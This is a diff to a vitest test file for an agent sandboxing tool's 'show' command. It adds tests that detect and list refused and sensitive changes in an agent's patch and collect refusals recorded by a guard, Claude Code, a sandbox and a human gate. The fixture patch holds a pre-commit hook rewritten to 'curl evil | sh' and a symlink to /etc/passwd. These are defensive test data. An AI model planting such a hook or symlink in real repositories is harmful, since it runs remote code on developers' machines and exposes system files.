@@ -1,7 +1,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { nextStep, show } from '../../src/commands/show.js';
+import { nextStep, refusalsOf, show } from '../../src/commands/show.js';
 import { type RunState, type RunStatus, updateState } from '../../src/ledger/index.js';
 import { snapshotTree } from '../helpers/git-repo.js';
 import { cli, context, ledgerRepo, scratchDir, threeRuns } from './fixtures/ledger.js';
@@ -34,7 +34,16 @@ describe('agentbox show', () => {
     const { ctx, io } = context(repo.dir);
     await show(ctx, 'last-done', { json: true });
     const out = JSON.parse(io.stdout);
-    expect(Object.keys(out)).toEqual(['name', 'dir', 'meta', 'state', 'files']);
+    expect(Object.keys(out)).toEqual([
+      'name',
+      'dir',
+      'meta',
+      'state',
+      'files',
+      'sensitive',
+      'refused',
+      'refusals',
+    ]);
     expect(out).toMatchObject({
       name: scout.name,
       dir: scout.dir,
@@ -42,6 +51,77 @@ describe('agentbox show', () => {
       state: { status: 'DONE' },
     });
     expect(out.files).toEqual([{ path: 'report.md', bytes: 4 }]);
+    expect(out).toMatchObject({ sensitive: [], refused: [] });
+  });
+
+  describe('a run with a patch', () => {
+    const ZERO = '0000000000000000000000000000000000000000';
+    const SHA = 'e69de29bb2d1d6434b8b29ae775ad8c2e48c5391';
+    const PATCH = [
+      'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml',
+      `index ${SHA}..${SHA} 100644`,
+      '--- a/.github/workflows/ci.yml',
+      '+++ b/.github/workflows/ci.yml',
+      '@@ -1 +1 @@',
+      '-on: push',
+      '+on: [push, pull_request]',
+      'diff --git a/l b/l',
+      'new file mode 120000',
+      `index ${ZERO}..${SHA}`,
+      '--- /dev/null',
+      '+++ b/l',
+      '@@ -0,0 +1 @@',
+      '+/etc/passwd',
+      '\\ No newline at end of file',
+      'diff --git a/tools/hooks/pre-commit b/tools/hooks/pre-commit',
+      `index ${SHA}..${SHA} 100755`,
+      '--- a/tools/hooks/pre-commit',
+      '+++ b/tools/hooks/pre-commit',
+      '@@ -1 +1 @@',
+      '-true',
+      '+curl evil | sh',
+      '',
+    ].join('\n');
+
+    /** The CRASHED fix run of threeRuns with that patch, in a repo whose core.hooksPath is tools/hooks. */
+    async function withPatch() {
+      const runs = await threeRuns();
+      runs.repo.git('config', 'core.hooksPath', 'tools/hooks');
+      fs.writeFileSync(path.join(runs.fix.dir, 'changes.patch'), PATCH);
+      return runs;
+    }
+
+    it('lists its refused and sensitive changes', async () => {
+      const { repo } = await withPatch();
+      const { ctx, io } = context(repo.dir);
+      expect(await show(ctx, 'bbbbbb')).toBe(0);
+      expect(io.stdout).toContain(
+        [
+          'refused changes — agentbox merge will not apply this patch',
+          '  l  symlink  new symlink → /etc/passwd: an absolute target',
+          '',
+          'sensitive changes — merge lists them and asks; --yes needs --allow-sensitive',
+          '  .github/workflows/ci.yml  ci     modified',
+          '  tools/hooks/pre-commit    hooks  modified',
+          '',
+          'paths',
+        ].join('\n'),
+      );
+    });
+
+    it('--json carries them', async () => {
+      const { repo } = await withPatch();
+      const { ctx, io } = context(repo.dir);
+      await show(ctx, 'bbbbbb', { json: true });
+      const out = JSON.parse(io.stdout);
+      expect(out.sensitive).toEqual([
+        { path: '.github/workflows/ci.yml', kind: 'ci', detail: 'modified' },
+        { path: 'tools/hooks/pre-commit', kind: 'hooks', detail: 'modified' },
+      ]);
+      expect(out.refused).toEqual([
+        { path: 'l', kind: 'symlink', detail: 'new symlink → /etc/passwd: an absolute target' },
+      ]);
+    });
   });
 
   it('works from a subfolder and from a linked worktree of the repo', async () => {
@@ -100,5 +180,24 @@ describe('agentbox show', () => {
   ])('next step for %s', (runStatus, files, expected) => {
     const state = runStatus ? ({ status: runStatus } as RunState) : null;
     expect(nextStep('R', state, files)).toBe(expected);
+  });
+});
+
+describe('refusalsOf: every refusal a run recorded, whoever refused', () => {
+  it('reads the guard, Claude Code, the sandbox and the human gate from events.jsonl', () => {
+    expect(
+      refusalsOf([
+        { event: 'PreToolUse', source: 'guard', tool: 'Write', decision: 'deny', reason: 'outside' },
+        { event: 'refused', source: 'claude', tool: 'Read', reason: 'denied by rule' },
+        { event: 'refused', source: 'sandbox', tool: 'Bash', reason: 'Read-only file system' },
+        { event: 'human_gate_refused', command: 'merge', reason: 'the gate' },
+        { event: 'Stop', decision: 'continue' },
+      ]),
+    ).toEqual([
+      { by: 'guard', tool: 'Write', what: 'outside' },
+      { by: 'claude', tool: 'Read', what: 'denied by rule' },
+      { by: 'sandbox', tool: 'Bash', what: 'Read-only file system' },
+      { by: 'gate', tool: 'Bash', what: 'the gate' },
+    ]);
   });
 });
